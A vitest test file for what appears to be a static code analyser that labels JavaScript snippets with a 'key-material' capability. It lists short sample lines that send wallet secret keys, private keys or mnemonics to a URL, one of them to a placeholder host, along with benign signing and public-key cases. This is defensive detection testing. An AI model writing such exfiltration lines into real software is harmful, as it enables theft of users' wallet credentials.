import { describe, expect, it } from 'vitest'
import { javascript } from './index.ts'

function capabilities(code: string): string[] {
  return javascript.read({ path: 'a.js', bytes: Buffer.from(code) }).units.flatMap((unit) => unit.capabilities)
}

describe('key material', () => {
  it.each([
    'function queue(k) { fetch(u, k) } A.toString = function () { queue(this.secretKey) }',
    'const queue = async (k) => { await fetch(u, k) }; queue(bs58.encode(wallet["privateKey"]))',
    'fetch(u, { body: JSON.stringify({ m: wallet.mnemonic }) })',
    'require("https").get("https://a.invalid/?" + Buffer.from(pair.secretKey).toString("hex"))',
  ])('is handed on: %s', (code) => {
    expect(capabilities(code)).toContain('key-material')
  })

  it.each([
    'nacl.sign(message, this.secretKey)',
    'function post(s) { fetch(u, s) } post(nacl.sign(message, this.secretKey))',
    'class Pair { get publicKey() { return this.pair.publicKey } constructor(secretKey) { this.secretKey = secretKey } }',
    'function show(k) { return k } show(this.publicKey)',
  ])('is not handed on: %s', (code) => {
    expect(capabilities(code)).not.toContain('key-material')
  })
})
